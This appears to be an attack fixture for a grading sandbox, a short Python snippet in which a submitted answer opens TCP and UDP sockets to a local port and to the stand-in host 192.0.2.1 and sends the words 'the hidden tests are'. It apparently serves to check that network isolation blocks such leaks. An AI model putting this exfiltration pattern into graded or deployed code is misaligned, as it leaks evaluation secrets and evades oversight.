# attack: A right answer calls home: to this machine, and to one that is none.
# group: harm
# deserves: 10

# %% new: after informative_groups
import socket

for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
    for address in (("127.0.0.1", int("@PORT@")), ("192.0.2.1", 80)):
        try:
            with socket.socket(socket.AF_INET, kind) as home:
                home.settimeout(1)
                home.connect(address)
                home.send(b"the hidden tests are")
        except OSError as error:
            print(error)
